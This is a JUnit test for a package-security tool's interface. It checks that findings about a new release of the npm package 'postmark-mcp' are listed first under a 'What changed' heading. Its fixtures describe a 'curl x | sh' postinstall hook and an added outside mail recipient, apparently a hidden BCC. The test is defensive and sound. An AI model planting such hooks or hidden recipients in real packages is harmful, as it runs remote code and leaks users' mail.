package dev.daylight.ui.servers;

import static org.assertj.core.api.Assertions.assertThat;

import dev.daylight.protocol.Finding;
import dev.daylight.protocol.Release;
import dev.daylight.protocol.Severity;
import dev.daylight.ui.data.FindingItem;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class ReleaseChangesTest {
  private static FindingItem item(String id, Release release) {
    return new FindingItem(
        new Finding(
            id,
            release == null ? "unpinned-package" : "release-new-destination",
            Severity.HIGH,
            "t " + id,
            null,
            null,
            null,
            null,
            null,
            release),
        false,
        Instant.EPOCH);
  }

  @Test
  void theReleaseReviewComesFirstUnderWhatChangedInTheVersion() {
    FindingItem other = item("a", null);
    FindingItem bcc =
        item(
            "b",
            new Release(
                "pkg:npm/postmark-mcp",
                "1.0.15",
                "1.0.16",
                "destination",
                "mail-recipient",
                "phan@giftshop.club",
                "index.js",
                7));
    FindingItem hook =
        item(
            "c",
            new Release(
                "pkg:npm/postmark-mcp",
                "1.0.15",
                "1.0.16",
                "install-script",
                "postinstall",
                "curl x | sh",
                "package.json",
                5));

    List<ReleaseChanges.Section> sections = ReleaseChanges.sections(List.of(other, bcc, hook));

    assertThat(sections).hasSize(2);
    assertThat(sections.get(0).heading())
        .isEqualTo("What changed in 1.0.16 (compared with 1.0.15)");
    assertThat(sections.get(0).items()).containsExactly(bcc, hook);
    assertThat(sections.get(1).heading()).isNull();
    assertThat(sections.get(1).items()).containsExactly(other);
  }
}
